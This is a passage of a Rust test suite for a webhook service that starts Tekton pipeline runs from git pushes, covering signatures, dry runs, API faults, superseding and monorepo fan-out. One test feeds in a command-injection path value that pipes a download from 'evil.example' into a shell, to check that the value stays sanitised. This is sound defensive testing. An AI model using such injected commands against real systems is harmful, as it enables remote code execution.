        delivery.body = form.into_bytes();
        let mut request = delivery.signed().request();
        request.headers_mut().insert(
            "content-type",
            "application/x-www-form-urlencoded".parse().unwrap(),
        );
        let answer = harness.send(request).await;
        assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
        assert_eq!(
            answer.body["runs"].as_array().unwrap().len(),
            1,
            "{}",
            answer.body
        );
    }
    assert_eq!(harness.pipeline_runs().len(), 2);

    let mut request = Delivery::github_push().signed().request();
    request
        .headers_mut()
        .insert("content-type", "application/xml".parse().unwrap());
    let answer = harness.send(request).await;
    assert_eq!(
        answer.status,
        StatusCode::UNSUPPORTED_MEDIA_TYPE,
        "{}",
        answer.body
    );
    assert_eq!(
        answer.body["message"],
        "the github webhook is sent as application/xml; set the webhook's content type to \
         application/json"
    );

    let mut request = Delivery::github("push", "d-form", b"nopayload=1".to_vec())
        .signed()
        .request();
    request.headers_mut().insert(
        "content-type",
        "application/x-www-form-urlencoded".parse().unwrap(),
    );
    let answer = harness.send(request).await;
    assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{}", answer.body);
    assert!(
        answer.body["message"]
            .as_str()
            .unwrap()
            .contains("no `payload` field"),
        "{}",
        answer.body
    );
    assert_eq!(harness.pipeline_runs().len(), 2);
}

#[tokio::test]
async fn malformed_json_is_400_with_a_json_error() {
    let harness = Harness::new(CONFIG).await;
    for body in [&b"{\"ref\": \"refs/heads/ma"[..], b"[1, 2]", b"not json"] {
        let delivery = Delivery::github("push", "d-malformed", body.to_vec()).signed();
        let answer = harness.send(delivery.request()).await;
        assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{}", answer.body);
        assert_eq!(answer.body["error"], "bad_request");
        assert!(
            answer.body["message"]
                .as_str()
                .unwrap()
                .contains("malformed github push payload"),
            "{}",
            answer.body
        );
    }
    assert!(harness.api.requests().is_empty());
}

#[tokio::test]
async fn other_events_are_ignored_with_200() {
    let harness = Harness::new(CONFIG).await;
    let issue = serde_json::to_vec(&json!({"action": "opened", "issue": {"number": 1}})).unwrap();
    let answer = harness
        .send(
            Delivery::github("issues", "d-issue", issue)
                .signed()
                .request(),
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert_eq!(answer.body["ignored"], "issues");
    assert!(answer.body["reason"].is_string());

    let ping = Delivery::github("ping", "d-ping", corpus("github/ping.octokit.json")).signed();
    let answer = harness.send(ping.request()).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert_eq!(answer.body["ping"], "pong");
    assert_eq!(
        answer.body["repository"],
        "https://github.com/Octocoders/Hello-World"
    );
    assert!(harness.api.requests().is_empty());
}

#[tokio::test]
async fn a_deleted_branch_starts_nothing_and_says_why() {
    let yaml = CONFIG.replace("branches: [master]\n    pipeline: build", "pipeline: build");
    let harness = Harness::new(&yaml).await;
    let delivery = Delivery::github(
        "push",
        "d-deleted",
        corpus("github/push-branch-deleted.gith-2012.json"),
    )
    .signed();
    let answer = harness.send(delivery.request()).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert_eq!(answer.body["runs"], json!([]));
    let ignored = answer.body["ignored"].as_array().unwrap();
    let payloads = ignored.iter().find(|i| i["rule"] == "payloads").unwrap();
    assert_eq!(payloads["ref"], "refs/heads/merge-test");
    assert!(payloads["reason"].as_str().unwrap().contains("deleted"));
    assert!(harness.all_runs().is_empty());
    assert!(harness.api.requests().is_empty());
}

// ---------------------------------------------------------------------------------------------
// API faults

#[tokio::test]
async fn throttling_is_passed_on_and_the_retry_creates_one_run() {
    let harness = Harness::new(CONFIG).await;
    let delivery = Delivery::github_push().signed();
    harness.api.fail_next(
        1,
        Fault::TooManyRequests {
            retry_after_secs: 7,
        },
    );
    let answer = harness.send(delivery.request()).await;
    // The API server's 429 and its Retry-After go back to the sender as they are (kube's own
    // retries are off), so that Knative or the provider waits as long as the cluster asked.
    assert_eq!(
        answer.status,
        StatusCode::TOO_MANY_REQUESTS,
        "{}",
        answer.body
    );
    assert_eq!(answer.headers["retry-after"], "7");
    assert_eq!(answer.body["error"], "too_many_requests");
    assert!(harness.pipeline_runs().is_empty());
    let retry = harness.send(delivery.request()).await;
    assert_eq!(retry.status, StatusCode::OK, "{}", retry.body);
    only_run(&harness, "pipelineruns", &retry);
}

#[tokio::test]
async fn server_errors_are_503_and_the_retry_creates_one_run() {
    let harness = Harness::new(CONFIG).await;
    let delivery = Delivery::github_push().signed();
    for code in [500, 503, 404, 409] {
        harness.api.fail_next(1, Fault::Status(code));
        let answer = harness.send(delivery.request()).await;
        assert_eq!(
            answer.status,
            StatusCode::SERVICE_UNAVAILABLE,
            "API {code}: {}",
            answer.body
        );
        assert_eq!(answer.body["error"], "unavailable");
        assert!(harness.pipeline_runs().is_empty());
    }
    let retry = harness.send(delivery.request()).await;
    assert_eq!(retry.status, StatusCode::OK, "{}", retry.body);
    only_run(&harness, "pipelineruns", &retry);
}

#[tokio::test]
async fn a_stalled_api_server_is_503_and_the_retry_creates_one_run() {
    let harness = Harness::with(CONFIG, 1, 1024 * 1024).await;
    let delivery = Delivery::github_push().signed();
    harness
        .api
        .fail_next(1, Fault::Stall(Duration::from_secs(3)));
    let answer = harness.send(delivery.request()).await;
    assert_eq!(
        answer.status,
        StatusCode::SERVICE_UNAVAILABLE,
        "{}",
        answer.body
    );
    // The stalled create may still land after the client gave up; let it, then redeliver.
    tokio::time::sleep(Duration::from_secs(4)).await;
    for _ in 0..2 {
        let retry = harness.send(delivery.request()).await;
        assert_eq!(retry.status, StatusCode::OK, "{}", retry.body);
        only_run(&harness, "pipelineruns", &retry);
    }
}

#[tokio::test]
async fn a_run_the_schema_rejects_is_422() {
    // `sizeLimit` must be a Kubernetes quantity; the CRD schema refuses anything else.
    let yaml = CONFIG.replace(
        "source: { claim: shared-workspace, archive: true }",
        "source: { emptyDir: { sizeLimit: plenty } }",
    );
    let api = TestApiServer::start().await;
    let harness = Harness::on(api, &yaml, 5, 1024 * 1024);
    let answer = harness
        .send(Delivery::github_push().signed().request())
        .await;
    assert_eq!(
        answer.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        answer.body
    );
    assert_eq!(answer.body["error"], "unprocessable");
    assert!(
        answer.body["message"]
            .as_str()
            .unwrap()
            .contains("sizeLimit"),
        "{}",
        answer.body
    );
    assert!(harness.pipeline_runs().is_empty());
}

// ---------------------------------------------------------------------------------------------
// dry run

#[track_caller]
fn assert_dry_run_answer(answer: &Answer) -> Value {
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert_eq!(answer.body["dryRun"], true);
    let runs = answer.body["runs"].as_array().unwrap();
    assert_eq!(runs.len(), 1, "{}", answer.body);
    let object = runs[0]["object"].clone();
    assert_eq!(object["kind"], "PipelineRun");
    assert_eq!(object["metadata"]["name"], runs[0]["name"]);
    assert_eq!(object["spec"]["pipelineRef"]["name"], "build");
    let ignored = answer.body["ignored"].as_array().unwrap();
    assert_eq!(ignored.len(), 1);
    assert_eq!(ignored[0]["rule"], "payloads-release");
    assert!(!ignored[0]["reason"].as_str().unwrap().is_empty());
    object
}

#[tokio::test]
async fn dry_runs_use_server_side_dry_run_and_create_nothing() {
    let harness = Harness::new(CONFIG).await;
    let delivery = Delivery::github_push().signed();
    let by_query = harness
        .send(delivery.to("/webhooks/github?dryRun=true"))
        .await;
    let object = assert_dry_run_answer(&by_query);
    // The object as the API server would store it.
    assert!(
        object["metadata"]["creationTimestamp"].is_string(),
        "{object}"
    );

    let mut request = delivery.request();
    request
        .headers_mut()
        .insert("x-tekflux-dry-run", "true".parse().unwrap());
    let by_header = harness.send(request).await;
    assert_dry_run_answer(&by_header);

    assert!(harness.all_runs().is_empty());
    let requests = harness.api.requests();
    assert_eq!(requests.len(), 2, "{requests:#?}");
    for request in &requests {
        assert_eq!(request.method, "POST");
        assert_eq!(request.query.get("dryRun").map(String::as_str), Some("All"));
    }

    // A dry run after the real delivery still shows the run.
    let real = harness.send(delivery.request()).await;
    assert_eq!(real.status, StatusCode::OK, "{}", real.body);
    let again = harness
        .send(delivery.to("/webhooks/github?dryRun=true"))
        .await;
    assert_dry_run_answer(&again);
    assert_eq!(harness.pipeline_runs().len(), 1);
}

#[tokio::test]
async fn a_dry_run_that_is_not_understood_is_refused_never_delivered() {
    let harness = Harness::new(CONFIG).await;
    let delivery = Delivery::github_push().signed();
    let with_header = |name: &str, value: &str| {
        let mut request = delivery.request();
        request.headers_mut().insert(
            http::HeaderName::from_bytes(name.as_bytes()).unwrap(),
            value.parse().unwrap(),
        );
        request
    };
    let refused = [
        (
            delivery.to("/webhooks/github?dryRun=yes"),
            "dryRun is \"yes\"",
        ),
        (delivery.to("/webhooks/github?dryrun=true"), "\"dryrun\""),
        (delivery.to("/webhooks/github?dry_run=true"), "\"dry_run\""),
        (delivery.to("/webhooks?dryRun="), "dryRun is \"\""),
        (
            with_header("x-tekflux-dry-run", "yes"),
            "X-Tekflux-Dry-Run is \"yes\"",
        ),
        (with_header("x-dry-run", "true"), "\"x-dry-run\""),
        (
            with_header("x-tekflux-dryrun", "true"),
            "\"x-tekflux-dryrun\"",
        ),
    ];
    for (request, expect) in refused {
        let uri = request.uri().clone();
        let answer = harness.send(request).await;
        assert_eq!(
            answer.status,
            StatusCode::BAD_REQUEST,
            "{uri}: {}",
            answer.body
        );
        let message = answer.body["message"].as_str().unwrap();
        assert!(message.contains(expect), "{uri}: {message}");
    }
    assert!(
        harness.api.requests().is_empty(),
        "nothing reached the cluster"
    );

    // The understood spellings: All (kubectl's word) is a dry run, none and false are not.
    let dry = harness
        .send(delivery.to("/webhooks/github?dryRun=All"))
        .await;
    assert_dry_run_answer(&dry);
    let real = harness.send(with_header("x-tekflux-dry-run", "none")).await;
    assert_eq!(real.status, StatusCode::OK, "{}", real.body);
    assert_eq!(real.body["dryRun"], false);
    assert_eq!(harness.pipeline_runs().len(), 1);
}

#[tokio::test]
async fn without_a_cluster_only_dry_runs_work() {
    let server = ServerState::new(ServerSettings::default());
    let state = AppState::new(
        config(CONFIG),
        None,
        ReplySink::new(None).unwrap(),
        &server.metrics,
    )
    .unwrap();
    let router = server::router(app(state), server);
    let delivery = Delivery::github_push().signed();
    let dry = send(&router, delivery.to("/webhooks/github?dryRun=1")).await;
    let object = assert_dry_run_answer(&dry);
    assert_eq!(object["metadata"]["namespace"], "ci");
    let real = send(&router, delivery.request()).await;
    assert_eq!(
        real.status,
        StatusCode::SERVICE_UNAVAILABLE,
        "{}",
        real.body
    );
    assert_eq!(real.body["error"], "unavailable");
}

#[tokio::test]
async fn render_shows_what_a_dry_run_would_create() {
    let body = corpus("github/push-3-commits.gith-2012.json");
    let delivery = "72d3162e-cc78-11e3-81ab-4c9367dc0958";
    let rendered = render(
        config(CONFIG),
        Provider::Github,
        None,
        Some(delivery),
        &body,
    )
    .await
    .unwrap();

    let harness = Harness::new(CONFIG).await;
    let dry = harness
        .send(
            Delivery::github_push()
                .signed()
                .to("/webhooks/github?dryRun=true"),
        )
        .await;
    assert_eq!(dry.status, StatusCode::OK, "{}", dry.body);
    let offline = rendered["runs"][0]["object"].clone();
    let mut served = dry.body["runs"][0]["object"].clone();
    // What only the API server adds.
    let meta = served["metadata"].as_object_mut().unwrap();
    for key in [
        "uid",
        "creationTimestamp",
        "resourceVersion",
        "generation",
        "managedFields",
    ] {
        meta.remove(key);
    }
    assert_eq!(served, offline);
    assert_eq!(rendered["ignored"], dry.body["ignored"]);
    assert_eq!(rendered["pushes"], dry.body["pushes"]);
    assert!(harness.all_runs().is_empty());
}

// ---------------------------------------------------------------------------------------------
// concurrency: supersede

#[tokio::test]
async fn a_new_push_cancels_older_unfinished_runs_of_the_same_branch() {
    let yaml = CONFIG.replace(
        "    pipeline: build\n",
        "    pipeline: build\n    concurrency: supersede\n",
    );
    let harness = Harness::new(&yaml).await;
    let first = harness
        .send(Delivery::github_push().signed().request())
        .await;
    assert_eq!(first.status, StatusCode::OK, "{}", first.body);
    let older = only_run(&harness, "pipelineruns", &first);
    let older_name = older["metadata"]["name"].as_str().unwrap().to_owned();

    // A finished run and a run of another branch, same rule and repository.
    let mut finished = older.clone();
    finished["metadata"]["name"] = json!("payloads-finished");
    finished["status"] = json!({"conditions": [{"type": "Succeeded", "status": "True"}]});
    harness.api.insert(finished);
    let mut other_branch = older.clone();
    other_branch["metadata"]["name"] = json!("payloads-other-branch");
    other_branch["metadata"]["labels"]["tekflux.dev/branch"] = json!("develop");
    other_branch["metadata"]["annotations"]["tekflux.dev/ref"] = json!("refs/heads/develop");
    harness.api.insert(other_branch);

    // Creation timestamps have whole seconds; the newer run must be created in a later one.
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let mut payload: Value =
        serde_json::from_slice(&corpus("github/push-3-commits.gith-2012.json")).unwrap();
    let newer_sha = "9a3b5c7d9e1f2a4b6c8d0e2f4a6b8c0d2e4f6a8b";
    payload["before"] = payload["after"].clone();
    payload["after"] = json!(newer_sha);
    let second = Delivery::github(
        "push",
        "8e1b2c3d-cc78-11e3-81ab-4c9367dc0958",
        serde_json::to_vec(&payload).unwrap(),
    )
    .signed();
    let answer = harness.send(second.request()).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert_eq!(answer.body["runs"][0]["superseded"], json!([older_name]));

    let run = |name: &str| {
        harness
            .api
            .get_object(TEKTON, "pipelineruns", Some("ci"), name)
            .unwrap()
    };
    assert_eq!(run(&older_name)["spec"]["status"], "Cancelled");
    assert!(run("payloads-finished")["spec"].get("status").is_none());
    assert!(run("payloads-other-branch")["spec"].get("status").is_none());
    let newer_name = answer.body["runs"][0]["name"].as_str().unwrap();
    let newer = run(newer_name);
    assert!(newer["spec"].get("status").is_none());
    assert_eq!(newer["metadata"]["labels"]["tekflux.dev/sha"], newer_sha);
    let patched: Vec<String> = harness
        .api
        .requests()
        .into_iter()
        .filter(|r| r.method == "PATCH")
        .map(|r| r.path)
        .collect();
    assert_eq!(
        patched,
        vec![format!(
            "/apis/tekton.dev/v1/namespaces/ci/pipelineruns/{older_name}"
        )]
    );

    // The redelivery of the newer push is answered the same, and patches nothing again.
    let again = harness.send(second.request()).await;
    assert_eq!(again.status, answer.status);
    assert_eq!(again.body, answer.body);
    let patches = harness
        .api
        .requests()
        .iter()
        .filter(|r| r.method == "PATCH")
        .count();
    assert_eq!(patches, 1);
    assert_eq!(harness.pipeline_runs().len(), 4);
}

/// Superseding cancels an older TaskRun as well, with Tekton's TaskRun cancel status; each
/// kind of run is listed and patched as its own resource.
#[tokio::test]
async fn a_new_push_cancels_an_older_unfinished_task_run() {
    let yaml = CONFIG.replace(
        "    task: unit-tests\n",
        "    task: unit-tests\n    concurrency: supersede\n",
    );
    let harness = Harness::new(&yaml).await;
    let first = harness
        .send(Delivery::gitlab_push().signed().request())
        .await;
    assert_eq!(first.status, StatusCode::OK, "{}", first.body);
    let older = only_run(&harness, "taskruns", &first);
    let older_name = older["metadata"]["name"].as_str().unwrap().to_owned();

    // Creation timestamps have whole seconds; the newer run must be created in a later one.
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let mut payload: Value = serde_json::from_slice(&corpus("gitlab/push.go-gitlab.json")).unwrap();
    let newer_sha = "4b6c8d0e2f4a6b8c0d2e4f6a8b9a3b5c7d9e1f2a";
    payload["before"] = payload["after"].clone();
    payload["after"] = json!(newer_sha);
    payload["checkout_sha"] = json!(newer_sha);
    let second = Delivery::new(
        Provider::Gitlab,
        &[
            ("X-Gitlab-Event", "Push Hook"),
            (
                "X-Gitlab-Event-UUID",
                "2b8f3c1e-6d0a-4f7b-9c2e-5a1d3e7f9b04",
            ),
            ("Idempotency-Key", "7c0e2a4f-1b3d-4e6a-8f9c-0d2b4a6c8e1f"),
        ],
        serde_json::to_vec(&payload).unwrap(),
    )
    .signed();
    let answer = harness.send(second.request()).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert_eq!(answer.body["runs"][0]["superseded"], json!([older_name]));

    let run = |name: &str| {
        harness
            .api
            .get_object(TEKTON, "taskruns", Some("gitlab-ci"), name)
            .unwrap()
    };
    assert_eq!(run(&older_name)["spec"]["status"], "TaskRunCancelled");
    let newer_name = answer.body["runs"][0]["name"].as_str().unwrap();
    assert!(run(newer_name)["spec"].get("status").is_none());
    let calls: Vec<(String, String)> = harness
        .api
        .requests()
        .into_iter()
        .filter(|r| {
            r.method == "PATCH" || (r.method == "GET" && r.query.contains_key("labelSelector"))
        })
        .map(|r| (r.method, r.path))
        .collect();
    let taskruns = "/apis/tekton.dev/v1/namespaces/gitlab-ci/taskruns";
    assert!(
        calls.contains(&("GET".to_owned(), taskruns.to_owned())),
        "{calls:?}"
    );
    assert!(
        calls.contains(&("PATCH".to_owned(), format!("{taskruns}/{older_name}"))),
        "{calls:?}"
    );
    assert!(harness.pipeline_runs().is_empty());
}

// ---------------------------------------------------------------------------------------------
// metrics

/// `/metrics` as (name, labels) → value.
fn scrape(text: &str) -> BTreeMap<(String, BTreeMap<String, String>), f64> {
    let mut series = BTreeMap::new();
    for line in text
        .lines()
        .filter(|l| !l.starts_with('#') && !l.is_empty())
    {
        let (key, value) = line.rsplit_once(' ').unwrap();
        let (name, labels) = match key.split_once('{') {
            Some((name, rest)) => (name, rest.trim_end_matches('}')),
            None => (key, ""),
        };
        let labels = labels
            .split(',')
            .filter(|pair| !pair.is_empty())
            .map(|pair| {
                let (k, v) = pair.split_once('=').unwrap();
                (k.to_owned(), v.trim_matches('"').to_owned())
            })
            .collect();
        series.insert((name.to_owned(), labels), value.parse().unwrap());
    }
    series
}

#[tokio::test]
async fn counters_tell_what_happened() {
    let harness = Harness::new(CONFIG).await;
    let push = Delivery::github_push().signed();
    assert_eq!(harness.send(push.request()).await.status, StatusCode::OK);
    assert_eq!(harness.send(push.request()).await.status, StatusCode::OK);
    let wrong = Delivery::github_push().signed_with("nope");
    assert_eq!(
        harness.send(wrong.request()).await.status,
        StatusCode::UNAUTHORIZED
    );
    let unsigned = Delivery::gitea_push();
    assert_eq!(
        harness.send(unsigned.request()).await.status,
        StatusCode::UNAUTHORIZED
    );
    let issue = Delivery::github("issues", "d-issue", b"{}".to_vec()).signed();
    assert_eq!(harness.send(issue.request()).await.status, StatusCode::OK);

    let response = harness
        .app
        .clone()
        .oneshot(Request::get("/metrics").body(Body::empty()).unwrap())
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let text = response.into_body().collect().await.unwrap().to_bytes();
    let series = scrape(std::str::from_utf8(&text).unwrap());
    let value = |name: &str, labels: &[(&str, &str)]| {
        series
            .get(&(name.to_owned(), strings(labels)))
            .copied()
            .unwrap_or_else(|| panic!("no {name}{labels:?} in\n{}", String::from_utf8_lossy(&text)))
    };
    assert_eq!(
        value("tekflux_git_push_received_total", &[("provider", "github")]),
        4.0
    );
    assert_eq!(
        value("tekflux_git_push_received_total", &[("provider", "gitea")]),
        1.0
    );
    assert_eq!(
        value("tekflux_git_push_verified_total", &[("provider", "github")]),
        3.0
    );
    assert_eq!(
        value(
            "tekflux_git_push_rejected_total",
            &[("provider", "github"), ("reason", "bad_signature")]
        ),
        1.0
    );
    assert_eq!(
        value(
            "tekflux_git_push_rejected_total",
            &[("provider", "gitea"), ("reason", "missing_signature")]
        ),
        1.0
    );
    assert_eq!(
        value(
            "tekflux_git_push_runs_created_total",
            &[("provider", "github"), ("kind", "PipelineRun")]
        ),
        1.0
    );
    assert_eq!(
        value(
            "tekflux_git_push_duplicates_total",
            &[("provider", "github")]
        ),
        1.0
    );
    assert_eq!(
        value("tekflux_git_push_ignored_total", &[("reason", "event")]),
        1.0
    );
    // The tag rule of the repository, once per push.
    assert_eq!(
        value(
            "tekflux_git_push_ignored_total",
            &[("reason", "rule_not_matched")]
        ),
        2.0
    );
}

// ---------------------------------------------------------------------------------------------
// monorepo fan-out: one run per API a push touches

/// The seed's monorepo: one rule for every API under `apis/<group>/<api>/`.
const MONOREPO: &str = r#"
namespace: ci
providers:
  github: { secret: "env:GITHUB_SECRET" }
repositories:
  - name: api
    url: https://github.com/danheberden/payloads
    branches: [master]
    paths: ["apis/{group}/{api}/**"]
    pipeline: build-api
    concurrency: supersede
    params:
      apicontext: "apis/{{ paths.group }}/{{ paths.api }}/"
      image: "registry.example.com/{{ paths.api }}:{{ sha }}"
    workspaces:
      source: { claim: shared-workspace, archive: true }
"#;

/// The corpus push with its commits' file lists replaced by `commits` (added, modified,
/// removed), delivered as `delivery`, with `forced` as given.
fn monorepo_push(delivery: &str, commits: &[[&[&str]; 3]], forced: bool) -> Delivery {
    let mut body: Value =
        serde_json::from_slice(&corpus("github/push-3-commits.gith-2012.json")).unwrap();
    let template = body["commits"][0].clone();
    body["commits"] = commits
        .iter()
        .map(|[added, modified, removed]| {
            let mut commit = template.clone();
            commit["added"] = json!(added);
            commit["modified"] = json!(modified);
            commit["removed"] = json!(removed);
            commit
        })
        .collect();
    body["forced"] = json!(forced);
    Delivery::github("push", delivery, serde_json::to_vec(&body).unwrap()).signed()
}

const THREE_APIS: &[[&[&str]; 3]] = &[
    [&["apis/async/launcher/pom.xml"], &[], &[]],
    [
        &[],
        &[
            "apis/async/launcher/src/App.java",
            "apis/sync/gateway/pom.xml",
        ],
        &[],
    ],
    [&[], &[], &["apis/sync/billing/README.md", "docs/index.md"]],
];

fn by_api(runs: &[Value]) -> BTreeMap<String, Value> {
    runs.iter()
        .map(|run| {
            let paths: Value = serde_json::from_str(
                run["metadata"]["annotations"]["tekflux.dev/paths"]
                    .as_str()
                    .unwrap(),
            )
            .unwrap();
            (paths["api"].as_str().unwrap().to_owned(), run.clone())
        })
        .collect()
}

#[tokio::test]
async fn a_push_touching_three_apis_starts_one_run_per_api_with_its_params() {
    let harness = Harness::new(MONOREPO).await;
    let delivery = monorepo_push("7d1e0c1a-0000-4000-8000-000000000001", THREE_APIS, false);
    let answer = harness.send(delivery.request()).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    let runs = by_api(&harness.pipeline_runs());
    assert_eq!(
        runs.keys().collect::<Vec<_>>(),
        ["billing", "gateway", "launcher"]
    );
    let sha = answer.body["pushes"][0]["sha"].as_str().unwrap().to_owned();
    for (api, group) in [
        ("billing", "sync"),
        ("gateway", "sync"),
        ("launcher", "async"),
    ] {
        let run = &runs[api];
        assert_eq!(
            params(run),
            strings(&[
                ("apicontext", &format!("apis/{group}/{api}/")),
                ("image", &format!("registry.example.com/{api}:{sha}")),
            ])
        );
        let name = run["metadata"]["name"].as_str().unwrap();
        assert!(name.starts_with(&format!("api-{group}-{api}-")), "{name}");
        // Each run works in its own directory of the claim.
        assert_eq!(run["spec"]["workspaces"][0]["subPath"], name);
    }
    // The answer lists each run with its values.
    let answered: Vec<&Value> = answer.body["runs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|run| &run["paths"]["api"])
        .collect();
    assert_eq!(
        answered,
        [&json!("billing"), &json!("gateway"), &json!("launcher")]
    );

    // Redelivered, alone and twenty times at once: no new run.
    let again = harness.send(delivery.request()).await;
    assert_eq!(again.body, answer.body);
    let mut copies = tokio::task::JoinSet::new();
    for _ in 0..20 {
        let app = harness.app.clone();
        let request = delivery.request();
        copies.spawn(async move { send(&app, request).await.status });
    }
    while let Some(status) = copies.join_next().await {
        assert_eq!(status.unwrap(), StatusCode::OK);
    }
    assert_eq!(harness.pipeline_runs().len(), 3);
}

#[tokio::test]
async fn a_push_touching_no_api_starts_nothing_and_says_why() {
    let harness = Harness::new(MONOREPO).await;
    let answer = harness
        .send(
            monorepo_push(
                "7d1e0c1a-0000-4000-8000-000000000002",
                &[[&["docs/index.md", "apis/README.md"], &[], &[]]],
                false,
            )
            .request(),
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert!(harness.pipeline_runs().is_empty());
    let reason = answer.body["ignored"][0]["reason"].as_str().unwrap();
    assert!(reason.contains("no changed path matches"), "{reason}");
}

/// A forced push lists only the new commits: the APIs found in them run, and the answer says
/// the list was incomplete; with none found, no run, a reason and a metric, never a guess.
#[tokio::test]
async fn an_incomplete_path_list_runs_what_it_names_and_says_what_it_cannot() {
    let harness = Harness::new(MONOREPO).await;
    let answer = harness
        .send(
            monorepo_push(
                "7d1e0c1a-0000-4000-8000-000000000003",
                &[[&["apis/async/launcher/pom.xml"], &[], &[]]],
                true,
            )
            .request(),
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert_eq!(
        by_api(&harness.pipeline_runs()).keys().collect::<Vec<_>>(),
        ["launcher"]
    );
    let reason = answer.body["runs"][0]["reason"].as_str().unwrap();
    assert!(reason.contains("incomplete"), "{reason}");

    let answer = harness
        .send(
            monorepo_push(
                "7d1e0c1a-0000-4000-8000-000000000004",
                &[[&["docs/index.md"], &[], &[]]],
                true,
            )
            .request(),
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert_eq!(harness.pipeline_runs().len(), 1);
    let reason = answer.body["ignored"][0]["reason"].as_str().unwrap();
    assert!(reason.contains("incomplete changed-path list"), "{reason}");
    assert_eq!(ignored_total(&harness.app, "paths_incomplete").await, 1.0);
}

#[tokio::test]
async fn hostile_captured_values_reach_params_only() {
    let harness = Harness::new(MONOREPO).await;
    let hostile = "a$(curl${IFS}evil.example|sh) B\u{e9}";
    let path = format!("apis/sync/{hostile}/pom.xml");
    let answer = harness
        .send(
            monorepo_push(
                "7d1e0c1a-0000-4000-8000-000000000005",
                &[[&[path.as_str()], &[], &[]]],
                false,
            )
            .request(),
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    let runs = harness.pipeline_runs();
    assert_eq!(runs.len(), 1);
    let run = &runs[0];
    // The test API server checks names and labels; the name keeps only safe characters.
    let name = run["metadata"]["name"].as_str().unwrap();
    assert!(
        name.chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'),
        "{name}"
    );
    assert!(name.len() <= 63);
    assert_eq!(
        params(run)["apicontext"],
        format!("apis/sync/{hostile}/"),
        "the value is passed as a param, verbatim"
    );
    for value in run["metadata"]["labels"].as_object().unwrap().values() {
        assert!(!value.as_str().unwrap().contains('$'), "{value}");
    }
}

#[tokio::test]
async fn superseding_cancels_only_older_runs_of_the_same_api() {
    let harness = Harness::new(MONOREPO).await;
    let first = harness
        .send(monorepo_push("7d1e0c1a-0000-4000-8000-000000000006", THREE_APIS, false).request())
        .await;
    assert_eq!(first.status, StatusCode::OK, "{}", first.body);
    // Kubernetes timestamps have one-second resolution: the next push must be strictly later.
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let second = harness
        .send(
            monorepo_push(
                "7d1e0c1a-0000-4000-8000-000000000007",
                &[[&[], &["apis/async/launcher/pom.xml"], &[]]],
                false,
            )
            .request(),
        )
        .await;
    assert_eq!(second.status, StatusCode::OK, "{}", second.body);
    let superseded = second.body["runs"][0]["superseded"].as_array().unwrap();
    assert_eq!(superseded.len(), 1, "{}", second.body);
    let cancelled: Vec<String> = harness
        .pipeline_runs()
        .iter()
        .filter(|run| run["spec"]["status"] == "Cancelled")
        .map(|run| run["metadata"]["name"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(cancelled.len(), 1);
    assert!(
        cancelled[0].starts_with("api-async-launcher-"),
        "{cancelled:?}"
    );
}

#[test]
fn fan_out_rules_are_checked_when_the_config_loads() {
    let compile = |paths: &str, param: &str| {
        let yaml = MONOREPO
            .replace(r#"["apis/{group}/{api}/**"]"#, paths)
            .replace(r#""apis/{{ paths.group }}/{{ paths.api }}/""#, param);
        tekflux_git_push::RoutingTable::compile(&config(&yaml))
            .err()
            .map(|errors| {
                errors
                    .iter()
                    .map(ToString::to_string)
                    .collect::<Vec<_>>()
                    .join("\n")
            })
    };
    let error = compile(r#"["apis/{group}/{api}/**", "libs/{lib}/**"]"#, "x").unwrap();
    assert!(error.contains("repositories[0].paths"), "{error}");
    assert!(error.contains("same names"), "{error}");
    let error = compile(r#"["apis/{group}/{api}/**", "docs/**"]"#, "x").unwrap();
    assert!(error.contains("repositories[0].paths[1]"), "{error}");
    let error = compile(r#"["apis/{group}/{api}/**"]"#, r#""{{ paths.service }}""#).unwrap();
    assert!(
        error.contains("repositories[0].params.apicontext"),
        "{error}"
    );
    assert!(error.contains("capture only {group}, {api}"), "{error}");
    let error = compile(r#"["apis/api-{api}/**"]"#, "x").unwrap();
    assert!(error.contains("whole path segment"), "{error}");
    // A rule that captures nothing cannot use `paths.` values. (The image param still names
    // `paths.api`, so it is refused too.)
    let error = compile(r#"["apis/**"]"#, "x").unwrap();
    assert!(error.contains("capture nothing"), "{error}");
}
